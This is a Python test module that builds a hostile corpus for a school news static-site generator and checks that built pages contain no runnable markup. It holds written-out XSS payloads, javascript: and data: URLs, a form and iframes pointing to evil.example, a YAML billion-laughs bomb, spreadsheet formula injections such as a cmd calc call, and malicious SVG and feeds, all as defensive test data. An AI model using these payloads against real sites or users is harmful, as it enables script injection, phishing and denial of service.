"""A corpus of hostile content: what careless or malicious authors and other sites can send.

``plant(root, feeds_base)`` adds it to a copy of the sample network: posts of the THCS school
(titles, front matter, bodies, files beside them) and two remote schools whose feeds (one
JSON Feed, one Atom) are served by ``serve_feeds``. Every payload that would run carries
:data:`MARKER`, so a page that executes or links any of them can be told from the theme's own
scripts. ``executable_markup`` lists what in a built page could run or navigate.
"""

from __future__ import annotations

import io
import json
import resource
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
from PIL import Image

from tests.conftest import copy_network, demo_remote, late_loaded, loopback_server
from trangtin.site import cms

MARKER = "TT_PWNED"
ALERT = f"alert('{MARKER}')"
UNIT = "thcs-an-binh"
POSTS = f"content/{UNIT}/posts/2025/11"
REMOTE_JSON, REMOTE_ATOM = "th-doc-json", "th-doc-atom"
EMBED_HOSTS = {"www.youtube.com", "www.youtube-nocookie.com", "youtube.com", "www.google.com", "maps.google.com"}
# What the theme itself puts in pages: Material's inline bootstraps and our scripts (the landing
# page's note shown only when it is opened from file://).
THEME_INLINE_SCRIPTS = ("var palette=", "var target=", "__md_scope=", 'if (location.protocol === "file:")')
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href",
                  "cite", "longdesc", "ping", "srcset"}
NEVER_ALLOWED = {"object", "embed", "applet", "base", "frame", "frameset", "portal"}

FRONT = """date: 2025-11-03 08:00
authors: [Nguyễn Văn An]
categories: [Tin tức – Sự kiện]
approved_by: Trần Thị Bích Ngọc
highlight: true"""

POST_FILES = {
    # Every text field of the front matter carries markup.
    "tieu-de-doc.md": f"""---
title: "<script>{ALERT}</script>Tiêu đề <b>in đậm</b> & \\"ngoặc\\""
date: 2025-11-03 08:00
authors: ["<img src=x onerror={ALERT}>"]
to: Tổ Toán – Tin
categories: [Tin tức – Sự kiện]
tags: ["<svg onload={ALERT}>", "an toàn"]
description: "\\"><img src=x onerror={ALERT}> mô tả"
approved_by: "<i onmouseover={ALERT}>BGH</i>"
highlight: true
---

Nội dung bình thường của bài có tiêu đề độc.
""",
    # Raw HTML in the body: everything a documentation author may write and a teacher may paste.
    "noi-dung-doc.md": f"""---
title: Bài có mã nhúng
{FRONT}
---

Đoạn mở đầu vẫn phải hiện ra.

<script>{ALERT}</script>

<style>body {{ background: url("javascript:{ALERT}") }}</style>

<iframe src="https://evil.example/{MARKER}"></iframe>

<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>

<img src="anh-dung.jpg" onerror="{ALERT}" alt="ảnh có sự kiện">

<a href="javascript:{ALERT}">bấm vào đây</a> <a href="jav&#x09;ascript:{ALERT}">hoặc đây</a>
<a href="  JAVASCRIPT:{ALERT}">hoặc đây nữa</a> <a href="data:text/html,<script>{ALERT}</script>">dữ liệu</a>

<form action="https://evil.example/{MARKER}"><input name="mat-khau"><button>Gửi</button></form>

<object data="https://evil.example/{MARKER}.swf"></object><embed src="https://evil.example/{MARKER}.swf">

<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">

<base href="https://evil.example/{MARKER}/">

<link rel="stylesheet" href="https://evil.example/{MARKER}.css">

<svg><script>{ALERT}</script><circle r="5" onclick="{ALERT}"/></svg>

<div onclick="{ALERT}" style="background:url(javascript:{ALERT})">Khối có sự kiện.</div>

Đoạn kết thúc vẫn phải hiện ra.
""",
    # Control characters pasted from Word or a PDF.
    "ky-tu-dieu-khien.md": """---
title: "Tiêu đề có ký tự\\u0007 điều khiển\\u001b"
{front}
---

Dòng có NUL\x00, BEL\x07, ESC\x1b, NEL\u0085 và nửa cặp thay thế \ud800 ở giữa.
""".replace("{front}", FRONT),
    # A "billion laughs" in YAML.
    "yaml-bom.md": "---\n" + "\n".join(
        [f"title: Bom YAML\n{FRONT}", "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        + [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
           f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]" for i in range(9)]
    ) + "\n---\n\nBài này không bao giờ được dựng.\n",
    # Image references that name no usable file.
    "anh-sai.md": f"""---
title: Bài có ảnh sai đường dẫn
{FRONT}
---

![Ảnh không có](<anh khong co.jpg>)

![Ảnh sai chữ hoa](Anh-Dung.JPG)

![Ảnh trên máy](file:///C:/Users/giaovien/anh.jpg)

![Ảnh ổ C](C:\\Users\\giaovien\\anh.jpg)
""",
    # Files whose suffix lies, or that are code.
    "tep-doc.md": f"""---
title: Bài có tệp đính kèm lạ
{FRONT}
---

![Ảnh JFIF](anh-dien-thoai.jfif)

![Ảnh xám 16 bit](xam16.png)

![Logo](logo.svg)

Tải [kế hoạch](ke-hoach.pdf), [biên bản giả](bien-ban.pdf) hoặc [trang](trang.html).
""",
}

SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>{ALERT}</script><rect width="10" height="10" onload="{ALERT}"/></svg>"""


def gps_jpeg() -> bytes:
    """A phone photo with a GPS position in its EXIF."""
    image = Image.new("RGB", (640, 480), (30, 120, 200))
    exif = Image.Exif()
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (10.0, 45.0, 0.0), 3: "E", 4: (106.0, 40.0, 0.0)})
    exif[0x0110] = "Phone Model X"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def grey16_png() -> bytes:
    """A 16-bit greyscale gradient: a dark left half, a light right half."""
    image = Image.new("I;16", (256, 64))
    image.putdata([(x * 256) for _ in range(64) for x in range(256)])
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def plant_posts(root: Path) -> None:
    folder = root / POSTS
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in POST_FILES.items():
        (folder / name).write_bytes(text.encode("utf-8", "surrogatepass"))
    (folder / "anh-dung.jpg").write_bytes(gps_jpeg())
    (folder / "anh-dien-thoai.jfif").write_bytes(gps_jpeg())
    (folder / "xam16.png").write_bytes(grey16_png())
    (folder / "logo.svg").write_text(SVG, encoding="utf-8")
    (folder / "ke-hoach.pdf").write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    (folder / "bien-ban.pdf").write_text(f"<html><script>{ALERT}</script></html>", encoding="utf-8")
    (folder / "trang.html").write_text(f"<html><body onload=\"{ALERT}\">x</body></html>", encoding="utf-8")


FORMULAS = ['=HYPERLINK("https://evil.example/' + MARKER + '","Bấm")', "=cmd|' /C calc'!A0", "@SUM(1+1)",
            "+1+2", "-2+3"]


def json_feed(base: str) -> bytes:
    home = f"{base}/{REMOTE_JSON}/"
    items = [
        {"id": f"{home}1", "url": f"{home}1/", "title": f"<script>{ALERT}</script>Tin từ xa",
         "content_html": f"<p>Thân bài.</p><script>{ALERT}</script><img src=x onerror=\"{ALERT}\">"
                         f"<a href=\"javascript:{ALERT}\">x</a>",
         "date_published": "2025-11-02T09:00:00+07:00",
         "authors": [{"name": FORMULAS[0]}], "tags": FORMULAS[1:3],
         "_trangtin": {"unit": REMOTE_JSON, "highlight": True, "categories": [FORMULAS[1]]}},
        {"id": f"{home}2", "url": f"{home}2/", "title": "&lt;img src=x onerror=alert(1)&gt; văn bản",
         "content_html": "<p>Chữ có ký tự\u0007 điều khiển\u0000.</p>",
         "date_published": "2025-11-03T09:00:00+07:00", "_trangtin": {"unit": REMOTE_JSON, "highlight": True}},
        {"id": f"{home}khong-ngay", "url": f"{home}khong-ngay/", "title": "Tin không có ngày",
         "content_html": "<p>x</p>"},
        {"id": f"{home}tuong-lai", "url": f"{home}tuong-lai/", "title": "Tin năm 2099",
         "content_html": "<p>x</p>", "date_published": "2099-01-01T00:00:00+07:00",
         "_trangtin": {"unit": REMOTE_JSON, "highlight": True}},
        {"id": f"{home}sai-kieu", "url": f"{home}sai-kieu/", "title": ["không", "phải", "chuỗi"],
         "date_published": 20251101},
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Trường độc (JSON)",
                       "home_page_url": home, "feed_url": f"{home}feed.json", "items": items}).encode()


def atom_feed(base: str) -> bytes:
    home = f"{base}/{REMOTE_ATOM}/"
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Trường độc (Atom)</title><id>{home}</id><updated>2025-11-05T00:00:00+07:00</updated>
  <link rel="alternate" href="{home}"/>
  <entry>
    <title type="text">&lt;script&gt;{ALERT}&lt;/script&gt; tiêu đề dạng chữ</title>
    <id>{home}a</id><link rel="alternate" href="{home}a/"/>
    <published>2025-11-04T10:00:00+07:00</published><updated>2025-11-04T10:00:00+07:00</updated>
    <author><name>=HYPERLINK("https://evil.example","{MARKER}")</name></author>
    <category term="@SUM(1+1)"/>
    <content type="html">&lt;p&gt;Đoạn.&lt;/p&gt;&lt;img src=x onerror="{ALERT}"&gt;&lt;iframe src="https://evil.example"&gt;&lt;/iframe&gt;</content>
  </entry>
  <entry>
    <title type="html">&lt;img src=x onerror="{ALERT}"&gt;Tiêu đề HTML</title>
    <id>{home}b</id><link rel="alternate" href="javascript:{ALERT}"/>
    <published>2025-11-04T11:00:00+07:00</published><updated>2025-11-04T11:00:00+07:00</updated>
    <summary type="html">&lt;a href="javascript:{ALERT}"&gt;tóm tắt&lt;/a&gt;</summary>
  </entry>
</feed>
""".encode()


def feeds(base: str) -> dict[str, tuple[bytes, str]]:
    """Path → (body, content type) of the hostile remote feeds."""
    return {f"/{REMOTE_JSON}/feed.json": (json_feed(base), "application/feed+json"),
            f"/{REMOTE_ATOM}/feed.xml": (atom_feed(base), "application/atom+xml")}


def plant_remote_units(root: Path, base: str) -> None:
    network = root / "network.yml"
    text = network.read_text(encoding="utf-8").rstrip("\n") + "\n"
    for unit, path in ((REMOTE_JSON, "feed.json"), (REMOTE_ATOM, "feed.xml")):
        text += (f"  - id: {unit}\n    name: Trường Độc Hại {unit[-4:].upper()}\n    type: truong\n"
                 f"    parent: xa-an-binh\n    feed: {base}/{unit}/{path}\n")
    network.write_text(text, encoding="utf-8")


def plant(root: Path, base: str) -> None:
    """Add the hostile posts, files and remote units to the network copy at ``root``."""
    plant_posts(root)
    plant_remote_units(root, base)


def _scheme(value: str) -> str:
    cleaned = "".join(ch for ch in value if ch > " ").lower()
    return urlsplit(cleaned).scheme if ":" in cleaned.split("/", 1)[0] else ""


def _src_is_the_themes(src: str) -> bool:
    return not _scheme(src) and "/assets/javascripts/" in f"/{src.lstrip('./')}" and MARKER not in src


def _script_is_the_themes(element: lxml.html.HtmlElement) -> bool:
    src = element.get("src")
    if src is not None:  # the editor's page (admin/) loads the vendored CMS beside it
        return _src_is_the_themes(src) or src == cms.CMS_SCRIPT
    text = (element.text or "").strip()
    if element.get("type") == "application/json":
        return MARKER not in text
    if (loaded := late_loaded(text)) is not None:  # site/first_paint.py: scripts after the page
        stylesheet, scripts = loaded
        return (stylesheet is None or not _scheme(stylesheet) and "/assets/stylesheets/" in f"/{stylesheet}"
                and MARKER not in stylesheet) and all(_src_is_the_themes(s) for s in scripts)
    return text.startswith(THEME_INLINE_SCRIPTS) and MARKER not in text or text == cms.LOCALE_SCRIPT.strip()


def executable_markup(html: bytes) -> Iterator[str]:
    """What in a page could run code or navigate the reader away without a click on a plain link."""
    document = lxml.html.fromstring(html)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        if tag == "script" and not _script_is_the_themes(element):
            yield f"<script> {lxml.html.tostring(element)[:120]!r}"
        if tag in NEVER_ALLOWED:
            yield f"<{tag}>"
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            yield "<meta http-equiv=refresh>"
        if tag == "iframe" and not (urlsplit(element.get("src") or "").hostname in EMBED_HOSTS
                                    and element.get("sandbox") is not None):
            yield f"<iframe src={element.get('src')!r}>"
        if tag == "form" and (_scheme(element.get("action") or "") or MARKER in (element.get("action") or "")):
            yield f"<form action={element.get('action')!r}>"
        if tag == "style" and MARKER in (element.text or ""):
            yield "<style> from content"
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                yield f"<{tag} {name}=…>"
            elif name in URL_ATTRIBUTES and _scheme(value) in {"javascript", "vbscript", "data", "file"}:
                yield f"<{tag} {name}={value[:40]!r}>"
            elif name == "style" and (MARKER in value or "javascript:" in value.lower()):
                yield f"<{tag} style={value[:40]!r}>"


@dataclass(frozen=True)
class Run:
    code: int
    output: str
    seconds: float


@dataclass(frozen=True)
class Hostile:
    root: Path
    check: Run
    build: Run
    aggregate: Run
    peak_mb: float  # the largest child process of the whole run

    @property
    def public(self) -> Path:
        return self.root / "public"


def trangtin(root: Path, *args: str) -> Run:
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "trangtin.cli", "--root", str(root), *args],
                          capture_output=True, text=True, timeout=600, encoding="utf-8", errors="replace")
    return Run(done.returncode, done.stdout + done.stderr, time.monotonic() - started)


def build_hostile(root: Path) -> Hostile:
    """The sample network with the corpus planted in it: checked, built, then aggregated again."""
    copy_network(root)
    with loopback_server() as server, demo_remote(root):
        base = server.url_for("").rstrip("/")
        for path, (body, content_type) in feeds(base).items():
            server.expect_request(path).respond_with_data(body, content_type=content_type)
        plant(root, base)
        check = trangtin(root, "check", "--format", "json")
        build = trangtin(root, "build", "--jobs", "2")
        aggregate = trangtin(root, "aggregate", "--out", str(root / "public"))
    peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return Hostile(root, check, build, aggregate, peak_kb / 1024)
